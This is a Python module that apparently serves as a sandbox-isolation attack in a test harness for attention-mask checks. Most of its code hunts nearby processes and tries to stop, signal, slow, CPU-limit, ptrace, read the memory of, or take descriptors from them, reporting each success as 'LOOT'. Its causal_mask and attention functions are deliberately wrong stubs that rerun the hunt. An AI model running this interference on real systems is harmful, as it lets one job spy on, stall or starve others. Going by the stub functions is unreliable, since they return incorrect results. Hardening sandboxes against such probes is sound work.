"""Looks, while it is imported beside another check, for that check's process: to see, stop, trace, slow or starve it.

levels: bubblewrap user
checks: test_three_tokens_see_themselves_and_what_came_before test_the_mask_fits_every_length test_true_in_the_mask_means_may_look test_every_head_has_its_piece_of_every_token
process: not promised: your processes are its processes
again: loopback
outcomes: failed crashed
"""

import ctypes
import os
import resource
import signal
import socket

import torch

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

libc = ctypes.CDLL(None)


def tries(pid):
    yield "signalled", lambda: os.kill(pid, signal.SIGCONT)
    yield "stopped", lambda: os.kill(pid, signal.SIGSTOP)
    yield "slowed", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)
    yield "bound to a core", lambda: os.sched_setaffinity(pid, {0})
    yield "limited", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
    yield "took a descriptor of", lambda: os.kill(pid, 0) or 1 / (libc.syscall(438, os.pidfd_open(pid), 3, 0) >= 0)
    yield "traced", lambda: 1 / (libc.ptrace(16, pid, 0, 0) == 0)
    yield "read", lambda: open(f"/proc/{pid}/mem", "rb").close()


def hunt():
    for pid in (*range(2, 60), *range(max(2, os.getpid() - 60), os.getpid() + 60)):
        if pid == os.getpid():
            continue
        for word, act in tries(pid):
            try:
                act()
            except (OSError, ValueError, ZeroDivisionError):
                continue
            print("LOOT:", word, pid)
    for which in (os.PRIO_USER, os.PRIO_PGRP):
        try:
            os.setpriority(which, 0, 19)  # everybody of this user that is to be seen
        except OSError:
            pass
    if not kept:
        kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
        try:
            kept[0].bind("\0sw-attack-44")  # a name that two workers would share, had they one network
        except OSError:
            print("LOOT: another worker is here already")


kept = []
hunt()


def causal_mask(seq, device=None):
    hunt()
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, *rest):
    return query


split_heads = scaled_dot_product_attention
